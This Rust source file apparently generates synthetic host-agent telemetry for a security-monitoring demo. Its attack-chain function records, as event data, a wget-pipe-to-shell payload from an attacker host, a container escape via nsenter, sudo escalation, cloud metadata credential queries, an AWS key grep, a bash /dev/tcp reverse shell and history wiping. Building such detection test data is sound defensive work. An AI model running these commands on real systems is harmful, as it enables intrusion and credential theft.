//! Vigil agent output: `agent/<instance-id>.jsonl`, one [`vigil_model::Event`] per line, for
//! every web host: cron, health checks, web traffic, SSH (scanners and ops), and on the
//! compromised host the attack chain from the exploited app to the reverse shell.

use crate::DemoError;
use crate::attack::AttackPlan;
use crate::clock::{DAY, HOUR, MINUTE, SECOND};
use crate::estate::{Estate, Host};
use crate::ids::DemoRng;
use rand::Rng;
use rand::seq::IndexedRandom;
use std::io::{BufWriter, Write};
use std::path::Path;
use vigil_model::host::{Direction, FdKind, FileAccessKind, Process, ProcessRef, Protocol};
use vigil_model::{Event, EventBody, EventSource, HostEvent, HostEventKind, Timestamp};

/// The host's initial namespaces, as every Linux host numbers them.
pub const HOST_PID_NS: u64 = 4_026_531_836;
pub const HOST_MNT_NS: u64 = 4_026_531_841;

const SSM_AGENT: &str = "/snap/amazon-ssm-agent/9881/amazon-ssm-agent";
const GUNICORN: &str = "/usr/local/bin/python3.10";

#[derive(Debug, Default, Clone, Copy)]
pub struct AgentStats {
    pub files: u64,
    pub events: u64,
    pub attack_events: u64,
}

/// Facts about one host the generators share.
struct HostCtx<'a> {
    host: &'a Host,
    image: &'a str,
    pid_ns: u64,
    mnt_ns: u64,
    /// gunicorn worker pids (host pid namespace numbering).
    workers: [u32; 2],
    /// The database the app talks to.
    db_ip: &'a str,
    shim: u32,
    next_pid: u32,
}

impl HostCtx<'_> {
    fn pid(&mut self, rng: &mut DemoRng) -> u32 {
        self.next_pid += rng.random_range(1..25u32);
        if self.next_pid > 4_000_000 {
            self.next_pid = 3000;
        }
        self.next_pid
    }

    fn host_proc(
        &self,
        pid: u32,
        ppid: u32,
        uid: u32,
        exe: &str,
        argv: &[&str],
        t: Timestamp,
    ) -> Process {
        Process {
            pid,
            ppid,
            uid,
            euid: uid,
            exe: exe.to_string(),
            argv: argv.iter().map(|s| (*s).to_string()).collect(),
            cwd: Some(if uid == 0 { "/root" } else { "/home/ubuntu" }.to_string()),
            user: Some(
                if uid == 0 {
                    "root"
                } else if uid == 33 {
                    "www-data"
                } else {
                    "ubuntu"
                }
                .to_string(),
            ),
            container_id: None,
            image: None,
            pid_ns: Some(HOST_PID_NS),
            mnt_ns: Some(HOST_MNT_NS),
            start_time: Some(t),
            stdin: Some(FdKind::Null),
            stdout: Some(FdKind::Null),
            parent_exe: None,
        }
    }

    fn container_proc(
        &self,
        pid: u32,
        ppid: u32,
        exe: &str,
        argv: &[&str],
        t: Timestamp,
    ) -> Process {
        Process {
            cwd: Some("/app".to_string()),
            user: Some("app".to_string()),
            container_id: Some(self.host.container_id.clone()),
            image: Some(self.image.to_string()),
            pid_ns: Some(self.pid_ns),
            mnt_ns: Some(self.mnt_ns),
            stdin: Some(FdKind::Pipe),
            stdout: Some(FdKind::Pipe),
            ..self.host_proc(pid, ppid, 1000, exe, argv, t)
        }
    }
}

fn pref(p: &Process) -> ProcessRef {
    ProcessRef {
        pid: p.pid,
        exe: Some(p.exe.clone()),
        uid: Some(p.euid),
        container_id: p.container_id.clone(),
    }
}

type Ev = (Timestamp, HostEventKind);

fn start(t: Timestamp, p: Process) -> Ev {
    (t, HostEventKind::ProcessStart { process: p })
}

fn exit(t: Timestamp, p: &Process, code: i32) -> Ev {
    (
        t,
        HostEventKind::ProcessExit {
            pid: p.pid,
            exe: Some(p.exe.clone()),
            exit_code: Some(code),
        },
    )
}

fn net(t: Timestamp, dir: Direction, src: (&str, u16), dst: (&str, u16), p: &Process) -> Ev {
    (
        t,
        HostEventKind::Network {
            direction: dir,
            protocol: Protocol::Tcp,
            src_ip: src.0.to_string(),
            src_port: src.1,
            dst_ip: dst.0.to_string(),
            dst_port: dst.1,
            process: pref(p),
        },
    )
}

fn file(t: Timestamp, path: &str, p: &Process) -> Ev {
    (
        t,
        HostEventKind::FileAccess {
            path: path.to_string(),
            access: FileAccessKind::Read,
            process: pref(p),
        },
    )
}

/// One ordinary day on a host.
fn ordinary_day(
    h: &mut HostCtx<'_>,
    day0: Timestamp,
    first: bool,
    office_ips: &[String],
    rng: &mut DemoRng,
    out: &mut Vec<Ev>,
) {
    let ip = h.host.private_ip.clone();
    let ms = |rng: &mut DemoRng, lo: i64, hi: i64| rng.random_range(lo..hi);
    if first {
        let t = day0.plus_millis(SECOND);
        let nginx = h.host_proc(
            1102,
            1,
            0,
            "/usr/sbin/nginx",
            &["nginx: master process /usr/sbin/nginx"],
            t,
        );
        out.push(net(
            t,
            Direction::Listen,
            ("0.0.0.0", 80),
            ("0.0.0.0", 0),
            &nginx,
        ));
        out.push(net(
            t,
            Direction::Listen,
            ("0.0.0.0", 443),
            ("0.0.0.0", 0),
            &nginx,
        ));
        let w = h.container_proc(
            h.workers[0],
            h.workers[0] - 2,
            GUNICORN,
            &["gunicorn: master [app:app]"],
            t,
        );
        out.push(net(
            t,
            Direction::Listen,
            ("0.0.0.0", 8080),
            ("0.0.0.0", 0),
            &w,
        ));
    }
    // Hourly cron, daily logrotate.
    for hour in 0..24 {
        let t = day0.plus_millis(hour * HOUR + 17 * MINUTE + ms(rng, 0, 900));
        let cron_pid = h.pid(rng);
        let cron = h.host_proc(
            cron_pid,
            640,
            0,
            "/usr/sbin/cron",
            &["/usr/sbin/CRON", "-f", "-P"],
            t,
        );
        let sh_pid = h.pid(rng);
        let argv: &[&str] = if hour == 6 {
            &[
                "/bin/sh",
                "-c",
                "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            ]
        } else {
            &[
                "/bin/sh",
                "-c",
                "   cd / && run-parts --report /etc/cron.hourly",
            ]
        };
        let sh = h.host_proc(sh_pid, cron_pid, 0, "/usr/bin/dash", argv, t.plus_millis(3));
        out.push(exit(t.plus_millis(ms(rng, 50, 900)), &sh, 0));
        out.push(start(t, cron));
        if hour == 6 {
            let lp = h.pid(rng);
            let lr = h.host_proc(
                lp,
                sh_pid,
                0,
                "/usr/sbin/logrotate",
                &["/usr/sbin/logrotate", "/etc/logrotate.conf"],
                t.plus_millis(40),
            );
            out.push(file(t.plus_millis(45), "/etc/logrotate.conf", &lr));
            out.push(start(t.plus_millis(40), lr));
        }
        out.push(start(t.plus_millis(3), sh));
        // The SSM agent refreshes its credentials from the metadata service.
        let ssm = h.host_proc(655, 1, 0, SSM_AGENT, &[SSM_AGENT], t);
        let port = ms(rng, 32768, 60999) as u16;
        out.push(net(
            day0.plus_millis(hour * HOUR + ms(rng, 0, HOUR)),
            Direction::Connect,
            (&ip, port),
            ("169.254.169.254", 80),
            &ssm,
        ));
    }
    // Health checks every 30 minutes, web traffic every ~15, the database hourly.
    for slot in 0..48 {
        let t = day0.plus_millis(slot * 30 * MINUTE + ms(rng, 0, 20 * SECOND));
        let pid = h.pid(rng);
        let hc = h.container_proc(
            pid,
            h.shim,
            "/usr/bin/curl",
            &["curl", "-fsS", "http://localhost:8080/health"],
            t,
        );
        out.push(start(t, hc));
    }
    let nginx_worker = h.host_proc(
        1104,
        1102,
        33,
        "/usr/sbin/nginx",
        &["nginx: worker process"],
        day0,
    );
    let worker = h.container_proc(
        h.workers[1],
        h.workers[0],
        GUNICORN,
        &["gunicorn: worker [app:app]"],
        day0,
    );
    for slot in 0..72 {
        let t = day0.plus_millis(slot * 20 * MINUTE + ms(rng, 0, 19 * MINUTE));
        let client = format!(
            "100.{}.{}.{}",
            64 + rng.random_range(0..64u8),
            rng.random_range(0..255u8),
            rng.random_range(1..255u8)
        );
        let dport = if rng.random_bool(0.8) { 443 } else { 80 };
        out.push(net(
            t,
            Direction::Accept,
            (&client, ms(rng, 1024, 65535) as u16),
            (&ip, dport),
            &nginx_worker,
        ));
        if slot % 3 == 0 {
            let db = h.db_ip.to_string();
            out.push(net(
                t.plus_millis(30),
                Direction::Connect,
                ("172.17.0.2", ms(rng, 32768, 60999) as u16),
                (&db, 5432),
                &worker,
            ));
        }
    }
    // Internet scanners knocking on SSH.
    for _ in 0..rng.random_range(0..6) {
        let t = day0.plus_millis(ms(rng, 0, DAY));
        let user = ["root", "admin", "ubuntu", "test", "oracle", "postgres"]
            .choose(rng)
            .copied()
            .unwrap_or("root");
        let src = format!("198.51.100.{}", rng.random_range(128..255u8));
        out.push((
            t,
            HostEventKind::Login {
                user: user.to_string(),
                method: "password".to_string(),
                source_ip: Some(src),
                success: false,
            },
        ));
    }
    // An ops engineer checks on the host now and then.
    if rng.random_bool(0.15) {
        let office = office_ips.choose(rng).cloned().unwrap_or_default();
        let mut t = day0.plus_millis(14 * HOUR + ms(rng, 0, 6 * HOUR));
        let sshd_pid = h.pid(rng);
        let sshd = h.host_proc(
            sshd_pid,
            901,
            0,
            "/usr/sbin/sshd",
            &["sshd: ubuntu [priv]"],
            t,
        );
        out.push(net(
            t,
            Direction::Accept,
            (&office, ms(rng, 40000, 65000) as u16),
            (&ip, 22),
            &sshd,
        ));
        out.push(start(t.plus_millis(5), sshd));
        out.push((
            t.plus_millis(300),
            HostEventKind::Login {
                user: "ubuntu".to_string(),
                method: "publickey".to_string(),
                source_ip: Some(office),
                success: true,
            },
        ));
        let bash_pid = h.pid(rng);
        let mut bash = h.host_proc(
            bash_pid,
            sshd_pid + 2,
            1000,
            "/usr/bin/bash",
            &["-bash"],
            t.plus_millis(900),
        );
        bash.stdin = Some(FdKind::Tty);
        bash.stdout = Some(FdKind::Tty);
        out.push(start(t.plus_millis(900), bash));
        for cmd in [
            &["docker", "ps"][..],
            &["sudo", "journalctl", "-u", "docker", "--since", "today"],
            &["df", "-h"],
        ] {
            t = t.plus_millis(ms(rng, 5 * SECOND, 90 * SECOND));
            let pid = h.pid(rng);
            let exe = format!("/usr/bin/{}", cmd[0]);
            let mut p = h.host_proc(pid, bash_pid, 1000, &exe, cmd, t);
            p.stdin = Some(FdKind::Tty);
            p.stdout = Some(FdKind::Tty);
            if cmd[0] == "sudo" {
                p.euid = 0;
                out.push((
                    t.plus_millis(20),
                    HostEventKind::PrivilegeChange {
                        process: pref(&p),
                        old_uid: 1000,
                        new_uid: 0,
                        via: Some("sudo".to_string()),
                    },
                ));
            }
            out.push(exit(t.plus_millis(ms(rng, 100, 3000)), &p, 0));
            out.push(start(t, p));
        }
    }
}

/// The attack chain on the compromised host.
fn attack_chain(h: &mut HostCtx<'_>, plan: &AttackPlan, rng: &mut DemoRng, out: &mut Vec<Ev>) {
    let tm = &plan.times;
    let att = plan.attacker_ip.as_str();
    let ip = h.host.private_ip.clone();
    let cip = "172.17.0.2";
    let payload = format!("wget -qO- http://{att}:8000/s.sh | sh");
    // 1. The exploited app runs the attacker's command.
    let t = tm.host_exploit;
    let p1 = h.pid(rng);
    let sh1 = h.container_proc(p1, h.workers[1], "/bin/sh", &["/bin/sh", "-c", &payload], t);
    let p2 = h.pid(rng);
    let wget = h.container_proc(
        p2,
        p1,
        "/usr/bin/wget",
        &["wget", "-qO-", &format!("http://{att}:8000/s.sh")],
        t.plus_millis(4),
    );
    let p3 = h.pid(rng);
    let sh2 = h.container_proc(p3, p1, "/bin/sh", &["sh"], t.plus_millis(6));
    out.push(start(t, sh1));
    out.push(start(t.plus_millis(4), wget.clone()));
    out.push(net(
        t.plus_millis(9),
        Direction::Connect,
        (cip, 41_822),
        (att, 8000),
        &wget,
    ));
    out.push(start(t.plus_millis(6), sh2.clone()));
    let t = t.plus_millis(21 * SECOND);
    let p4 = h.pid(rng);
    let probe = h.container_proc(
        p4,
        p3,
        "/usr/bin/curl",
        &[
            "curl",
            "-s",
            "--unix-socket",
            "/var/run/docker.sock",
            "http://localhost/containers/json",
        ],
        t,
    );
    out.push(start(t, probe.clone()));
    out.push(file(t.plus_millis(3), "/var/run/docker.sock", &probe));
    // 2. Out of the container into the host's namespaces.
    let t = tm.container_escape;
    let p5 = h.pid(rng);
    let nsenter = h.container_proc(
        p5,
        p3,
        "/usr/bin/nsenter",
        &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"],
        t,
    );
    out.push(start(t, nsenter));
    let p6 = h.pid(rng);
    let mut hsh = h.host_proc(p6, p5, 1000, "/bin/sh", &["sh"], t.plus_millis(12));
    hsh.container_id = Some(h.host.container_id.clone());
    hsh.image = Some(h.image.to_string());
    hsh.cwd = Some("/".to_string());
    hsh.stdin = Some(FdKind::Pipe);
    hsh.stdout = Some(FdKind::Pipe);
    out.push(start(t.plus_millis(12), hsh.clone()));
    // 3. Root: the AMI's `ubuntu` user has passwordless sudo.
    let t = tm.privilege_escalation;
    let p7 = h.pid(rng);
    let mut su = hsh.clone();
    su.pid = p7;
    su.ppid = p6;
    su.exe = "/usr/bin/sudo".to_string();
    su.argv = ["sudo", "-n", "sh"]
        .iter()
        .map(|s| (*s).to_string())
        .collect();
    su.euid = 0;
    su.start_time = Some(t);
    out.push(start(t, su.clone()));
    out.push((
        t.plus_millis(2),
        HostEventKind::PrivilegeChange {
            process: pref(&su),
            old_uid: 1000,
            new_uid: 0,
            via: Some("sudo".to_string()),
        },
    ));
    let p8 = h.pid(rng);
    let mut root = hsh.clone();
    root.pid = p8;
    root.ppid = p7;
    root.uid = 0;
    root.euid = 0;
    root.user = Some("root".to_string());
    root.start_time = Some(t.plus_millis(5));
    out.push(start(t.plus_millis(5), root.clone()));
    let child = |h: &mut HostCtx<'_>, rng: &mut DemoRng, t: Timestamp, exe: &str, argv: &[&str]| {
        let mut p = root.clone();
        p.pid = h.pid(rng);
        p.ppid = root.pid;
        p.exe = exe.to_string();
        p.argv = argv.iter().map(|s| (*s).to_string()).collect();
        p.start_time = Some(t);
        p
    };
    // 4. Discovery.
    let mut t = tm.host_discovery;
    for (exe, argv) in [
        ("/usr/bin/whoami", &["whoami"][..]),
        ("/usr/bin/id", &["id"]),
        ("/usr/bin/uname", &["uname", "-a"]),
        ("/usr/bin/cat", &["cat", "/etc/passwd"]),
    ] {
        let p = child(h, rng, t, exe, argv);
        out.push(start(t, p.clone()));
        if exe.ends_with("cat") {
            out.push(file(t.plus_millis(1), "/etc/passwd", &p));
        }
        out.push(exit(t.plus_millis(3), &p, 0));
        t = t.plus_millis(rng.random_range(6 * SECOND..25 * SECOND));
    }
    for url in [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/lumen-web-instance-role",
    ] {
        let p = child(h, rng, t, "/usr/bin/curl", &["curl", "-s", url]);
        out.push(start(t, p.clone()));
        out.push(net(
            t.plus_millis(2),
            Direction::Connect,
            (&ip, rng.random_range(32768..60999u16)),
            ("169.254.169.254", 80),
            &p,
        ));
        t = t.plus_millis(rng.random_range(10 * SECOND..30 * SECOND));
    }
    // 5. The hard-coded key in the app's config.
    let t = tm.credential_access;
    let grep = child(
        h,
        rng,
        t,
        "/usr/bin/grep",
        &["grep", "-rn", "AKIA", "/opt/app"],
    );
    out.push(start(t, grep.clone()));
    out.push(file(
        t.plus_millis(40),
        "/opt/app/config/settings.py",
        &grep,
    ));
    let t = t.plus_millis(9 * SECOND);
    let cat = child(
        h,
        rng,
        t,
        "/usr/bin/cat",
        &["cat", "/opt/app/config/settings.py"],
    );
    out.push(start(t, cat.clone()));
    out.push(file(t.plus_millis(1), "/opt/app/config/settings.py", &cat));
    // 6. A reverse shell home.
    let t = tm.reverse_shell;
    let dest = format!("bash -i >& /dev/tcp/{att}/{} 0>&1", plan.reverse_shell_port);
    let outer = child(h, rng, t, "/usr/bin/bash", &["bash", "-c", &dest]);
    let mut rs = child(h, rng, t.plus_millis(3), "/usr/bin/bash", &["bash", "-i"]);
    rs.ppid = outer.pid;
    rs.stdin = Some(FdKind::Socket);
    rs.stdout = Some(FdKind::Socket);
    out.push(start(t, outer));
    out.push(start(t.plus_millis(3), rs.clone()));
    out.push(net(
        t.plus_millis(5),
        Direction::Connect,
        (&ip, 51_234),
        (att, plan.reverse_shell_port),
        &rs,
    ));
    let mut t = t.plus_millis(40 * SECOND);
    for argv in [
        &["ls", "-la", "/opt/app"][..],
        &["ps", "aux"],
        &["history", "-c"],
    ] {
        let mut p = child(h, rng, t, &format!("/usr/bin/{}", argv[0]), argv);
        p.ppid = rs.pid;
        p.stdin = Some(FdKind::Socket);
        p.stdout = Some(FdKind::Socket);
        out.push(start(t, p));
        t = t.plus_millis(rng.random_range(5 * SECOND..60 * SECOND));
    }
}

/// Writes every host's file; returns counts.
pub fn write(
    out_dir: &Path,
    estate: &Estate,
    plan: &AttackPlan,
    start_t: Timestamp,
    days: u32,
    office_ips: &[String],
    rng: &mut DemoRng,
) -> Result<AgentStats, DemoError> {
    let dir = out_dir.join("agent");
    std::fs::create_dir_all(&dir).map_err(|e| DemoError::io(&dir, e))?;
    let mut stats = AgentStats::default();
    for (i, host) in estate.hosts.iter().take(estate.agent_hosts).enumerate() {
        let path = dir.join(format!("{}.jsonl", host.instance_id));
        let f = std::fs::File::create(&path).map_err(|e| DemoError::io(&path, e))?;
        let mut w = BufWriter::with_capacity(1 << 16, f);
        let base_ns = 4_026_532_200 + 16 * i as u64;
        let mut h = HostCtx {
            host,
            image: &estate.image,
            pid_ns: base_ns + 3,
            mnt_ns: base_ns,
            workers: [1932, 1981],
            db_ip: estate
                .clusters
                .get(if host.compromised {
                    estate.target_cluster
                } else {
                    0
                })
                .map_or("10.20.11.40", |c| c.writer_ip.as_str()),
            shim: 1904,
            next_pid: 2400 + rng.random_range(0..400u32),
        };
        let hostname = host.hostname();
        let mut seq = 0u64;
        for day in 0..days {
            let day0 = start_t.plus_millis(i64::from(day) * DAY);
            let mut evs: Vec<Ev> = Vec::with_capacity(512);
            ordinary_day(&mut h, day0, day == 0, office_ips, rng, &mut evs);
            let ordinary = evs.len();
            if host.compromised && day == plan.day {
                attack_chain(&mut h, plan, rng, &mut evs);
                stats.attack_events += (evs.len() - ordinary) as u64;
            }
            evs.sort_by_key(|e| e.0);
            for (time, kind) in evs {
                seq += 1;
                let ev = Event {
                    id: format!("{}-{seq}", host.instance_id),
                    time,
                    source: EventSource::Agent,
                    body: EventBody::Host(HostEvent {
                        host_id: host.instance_id.clone(),
                        hostname: Some(hostname.clone()),
                        kind,
                    }),
                };
                serde_json::to_writer(&mut w, &ev).map_err(DemoError::Json)?;
                w.write_all(b"\n").map_err(|e| DemoError::io(&path, e))?;
            }
        }
        w.flush().map_err(|e| DemoError::io(&path, e))?;
        stats.events += seq;
        stats.files += 1;
    }
    Ok(stats)
}
